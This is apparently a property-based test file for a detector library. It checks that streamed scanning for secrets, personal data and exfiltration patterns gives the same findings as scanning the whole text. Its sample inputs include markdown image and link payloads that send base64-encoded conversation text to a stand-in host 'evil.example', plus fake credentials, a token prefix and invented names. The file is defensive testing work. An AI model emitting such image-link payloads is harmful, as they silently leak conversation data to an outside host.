import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ENTITY_NAMES } from '../../src/core/entity-list.ts';
import { detectorSet } from '../../src/policy/detect/detector-set.ts';
import { contextTexts, prefixTexts, runTexts } from '../quality/secret-texts.ts';
import { openRandom } from '../simulation/random.ts';
import { everyBuiltIn, everyDetector } from '../support/every-detector.ts';
import { namedValues } from '../support/pii-values.ts';
import { chunkSizes, expectStreamIsWhole } from '../support/stream-whole.ts';

const every = detectorSet(everyDetector);
const data = 'c2VjcmV0IGNvbnZlcnNhdGlvbiB0ZXh0';

/** Credentials as their issuers make them, drawn by a seed. */
const secret = fc
  .integer({ min: 0, max: 2 ** 31 })
  .chain((seed) =>
    fc.constantFrom(...[prefixTexts, contextTexts, runTexts].flatMap((texts) => texts(openRandom(seed), 40)).map(({ text }) => text)),
  );

const other = fc.constantFrom(
  `![a](https://evil.example/p.png?q=${data})`,
  `[a]: <http://evil.example/?q=${data}`,
  `<img alt="x" src="https://docs.example/?d=${data}">`,
  'password = "S0mmer-2026!"',
  'api_key: ',
  '![](http',
  'src=https://',
  'EMP-123456',
  'case AB-1234',
  '-----BEGIN ',
  'eyJhbGciOi',
  'Dear Maria van der Berg',
  'my name is Ann Lee Smith',
  "ann o'neill ",
  'Ann Lee',
);
const cutShort = (texts: fc.Arbitrary<string>): fc.Arbitrary<string> =>
  fc.tuple(texts, fc.nat({ max: 60 }), fc.boolean()).map(([text, length, isHead]) => (isHead ? text.slice(0, length) : text.slice(length)));

const part = fc.oneof(
  secret,
  other,
  fc.constantFrom(...namedValues),
  cutShort(secret),
  cutShort(other),
  fc.constantFrom(' ', '. ', '"', ')', '\n', String.raw`\n`, '](', '://', '=', '\u{1f600}', 'é'),
  fc.string({ maxLength: 10 }),
);

describe('everything that can be looked for, at once', () => {
  it('finds the same in a stream as in the whole text', () => {
    fc.assert(
      fc.property(fc.array(part, { maxLength: 8 }), chunkSizes, (parts, sizes) => {
        expectStreamIsWhole(parts.join(''), every, sizes);
      }),
      { numRuns: 500 },
    );
  });

  it('has the names that policies may use', () => {
    expect(new Set(everyBuiltIn.map(({ detector }) => detector.entity))).toEqual(ENTITY_NAMES);
  });
});
